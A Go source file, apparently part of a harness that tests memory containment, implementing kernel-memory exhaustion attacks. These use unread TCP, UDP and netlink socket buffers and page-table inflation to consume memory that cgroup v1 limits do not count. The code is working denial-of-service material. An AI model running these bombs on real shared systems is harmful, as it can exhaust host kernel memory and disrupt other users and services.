package attack

import (
	"fmt"
	"net"
	"unsafe"

	"golang.org/x/sys/unix"
)

// This file is the bombs that fill the kernel's own memory: buffers of sockets, which
// control groups of version 1 do not count as other memory, answers, and page tables.

// queued returns what the kernel holds for a socket, in bytes: received, sent and queued.
func queued(fd int) int {
	var info [9]uint32
	size := uint32(unsafe.Sizeof(info))
	const memInfo = 55 // SO_MEMINFO
	_, _, e := unix.RawSyscall6(unix.SYS_GETSOCKOPT, uintptr(fd), unix.SOL_SOCKET, memInfo, uintptr(unsafe.Pointer(&info)), uintptr(unsafe.Pointer(&size)), 0)
	if e != 0 {
		return 0
	}
	return int(info[0] + info[5])
}

// socketBomb fills sockets until those of fill hold bombBytes.
func socketBomb(fill func() (fds []int, err error)) error {
	var held int
	for n := 0; n < 2000; n++ {
		fds, err := fill()
		if err != nil {
			return fmt.Errorf("after %d MiB: %w", held>>20, err)
		}
		for _, fd := range fds {
			held += queued(fd)
		}
		if held >= bombBytes {
			return kept(held)
		}
	}
	return fmt.Errorf("after %d MiB in 2000 sockets", held>>20)
}

// large makes a socket's buffers as large as they may be.
func large(fd int) {
	_ = unix.SetsockoptInt(fd, unix.SOL_SOCKET, unix.SO_SNDBUF, 4<<20)
	_ = unix.SetsockoptInt(fd, unix.SOL_SOCKET, unix.SO_RCVBUF, 4<<20)
}

// tcpBomb queues bytes in connections over loopback that nobody reads.
func tcpBomb() error {
	l, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		return err
	}
	addr := &unix.SockaddrInet4{Port: l.Addr().(*net.TCPAddr).Port, Addr: [4]byte{127, 0, 0, 1}}
	raw, err := l.(*net.TCPListener).File()
	if err != nil {
		return err
	}
	large(int(raw.Fd())) // inherited by what it accepts
	data := make([]byte, 256<<10)
	return socketBomb(func() ([]int, error) {
		fd, err := unix.Socket(unix.AF_INET, unix.SOCK_STREAM, 0)
		if err != nil {
			return nil, err
		}
		large(fd)
		if err := unix.Connect(fd, addr); err != nil {
			return nil, err
		}
		peer, _, err := unix.Accept(int(raw.Fd()))
		if err != nil {
			return nil, err
		}
		if err := unix.SetNonblock(fd, true); err != nil {
			return nil, err
		}
		for {
			if n, err := unix.Write(fd, data); n <= 0 || err != nil {
				return []int{fd, peer}, nil
			}
		}
	})
}

// udpBomb queues datagrams that nobody reads.
func udpBomb() error {
	data := make([]byte, 60<<10)
	out, err := unix.Socket(unix.AF_INET, unix.SOCK_DGRAM|unix.SOCK_NONBLOCK, 0)
	if err != nil {
		return err
	}
	return socketBomb(func() ([]int, error) {
		fd, err := unix.Socket(unix.AF_INET, unix.SOCK_DGRAM, 0)
		if err != nil {
			return nil, err
		}
		large(fd)
		if err := unix.Bind(fd, &unix.SockaddrInet4{Addr: [4]byte{127, 0, 0, 1}}); err != nil {
			return nil, err
		}
		addr, err := unix.Getsockname(fd)
		if err != nil {
			return nil, err
		}
		for range 150 {
			_ = unix.Sendto(out, data, 0, addr) // one that is dropped is no failure
		}
		return []int{fd}, nil
	})
}

// netlinkBomb requests the interfaces and reads no answer.
func netlinkBomb() error {
	// RTM_GETLINK for the first interface: a header and an ifinfomsg.
	ask := []byte{32, 0, 0, 0, unix.RTM_GETLINK, 0, unix.NLM_F_REQUEST, 0, 1, 0, 0, 0, 0, 0, 0, 0,
		0, 0, 0, 0, 1, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0}
	return socketBomb(func() ([]int, error) {
		fd, err := unix.Socket(unix.AF_NETLINK, unix.SOCK_RAW, unix.NETLINK_ROUTE)
		if err != nil {
			return nil, err
		}
		large(fd)
		for range 600 {
			_ = unix.Sendto(fd, ask, 0, &unix.SockaddrNetlink{Family: unix.AF_NETLINK}) // a full one answers no more
		}
		return []int{fd}, nil
	})
}

// tablesBomb reads one page in every two megabytes of memory that nothing is in: the
// page is the kernel's one page of zeros, its table is new each time.
func tablesBomb() error {
	const reach, table = 2 << 20, 4 << 10
	b, err := unix.Mmap(-1, 0, bombBytes/table*reach, unix.PROT_READ, unix.MAP_PRIVATE|unix.MAP_ANON|unix.MAP_NORESERVE)
	if err == nil {
		err = unix.Madvise(b, unix.MADV_NOHUGEPAGE)
	}
	if err != nil {
		return err
	}
	var sum byte
	for i := 0; i < len(b); i += reach {
		sum += b[i]
	}
	return kept(bombBytes + int(sum))
}
